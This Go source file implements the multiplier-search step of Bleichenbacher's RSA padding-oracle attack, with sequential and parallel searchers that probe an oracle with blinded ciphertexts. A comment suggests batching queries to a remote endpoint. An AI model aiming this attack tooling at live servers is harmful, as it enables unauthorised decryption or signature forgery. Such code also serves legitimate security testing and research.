package bleichenbacher

import (
	"context"
	"fmt"
	"math/big"
	"runtime"
	"sync"
	"sync/atomic"
)

// Searcher scans multiplier candidates s = start, start+1, ... and returns
// the smallest one whose blinded ciphertext the oracle accepts. blind maps
// a candidate multiplier to the ciphertext to submit.
//
// Implement this interface to customize how the linear phases of the
// attack probe the oracle, for example to fan queries out to a remote
// endpoint in batches.
type Searcher interface {
	Search(ctx context.Context, oracle Oracle, blind func(s *big.Int) *big.Int, start *big.Int, limit uint64) (*big.Int, error)
}

// SequentialSearcher probes candidates one at a time in ascending order.
// It is the default and keeps oracle traffic strictly ordered.
type SequentialSearcher struct{}

// Search implements the Searcher interface.
func (SequentialSearcher) Search(ctx context.Context, oracle Oracle, blind func(s *big.Int) *big.Int, start *big.Int, limit uint64) (*big.Int, error) {
	s := new(big.Int).Set(start)
	for n := uint64(0); n < limit; n++ {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		if oracle(blind(s)) {
			return s, nil
		}
		s.Add(s, one)
	}
	return nil, fmt.Errorf("no conformant multiplier within %d candidates: %w", limit, ErrAttackFailed)
}

// ParallelSearcher fans candidate multipliers out to a pool of workers.
// Each candidate is an independent pure computation against the same
// oracle, so the scan parallelizes cleanly; the search still returns the
// smallest hit so results match SequentialSearcher exactly.
type ParallelSearcher struct {
	// Workers controls the pool size (0 = number of CPUs).
	Workers int
}

// Search implements the Searcher interface. Candidates are scanned in
// fixed-size windows; within a window workers claim offsets from a shared
// counter and the lowest conformant offset wins.
func (p ParallelSearcher) Search(ctx context.Context, oracle Oracle, blind func(s *big.Int) *big.Int, start *big.Int, limit uint64) (*big.Int, error) {
	workers := p.Workers
	if workers <= 0 {
		workers = runtime.NumCPU()
	}

	base := new(big.Int).Set(start)
	for tried := uint64(0); tried < limit; {
		window := uint64(workers) * 64
		if window > limit-tried {
			window = limit - tried
		}

		hit := scanWindow(ctx, oracle, blind, base, window, workers)
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		if hit >= 0 {
			return new(big.Int).Add(base, new(big.Int).SetInt64(hit)), nil
		}

		base.Add(base, new(big.Int).SetUint64(window))
		tried += window
	}
	return nil, fmt.Errorf("no conformant multiplier within %d candidates: %w", limit, ErrAttackFailed)
}

// scanWindow probes the candidates base+0 .. base+window-1 with a worker
// pool and returns the lowest conformant offset, or -1 if there is none.
func scanWindow(ctx context.Context, oracle Oracle, blind func(s *big.Int) *big.Int, base *big.Int, window uint64, workers int) int64 {
	var next atomic.Uint64
	var mu sync.Mutex
	lowest := int64(-1)

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				off := next.Add(1) - 1
				if off >= window || ctx.Err() != nil {
					return
				}

				// A hit at a lower offset makes the rest of the window moot.
				mu.Lock()
				done := lowest >= 0 && lowest <= int64(off)
				mu.Unlock()
				if done {
					return
				}

				s := new(big.Int).Add(base, new(big.Int).SetUint64(off))
				if oracle(blind(s)) {
					mu.Lock()
					if lowest < 0 || int64(off) < lowest {
						lowest = int64(off)
					}
					mu.Unlock()
				}
			}
		}()
	}
	wg.Wait()

	return lowest
}
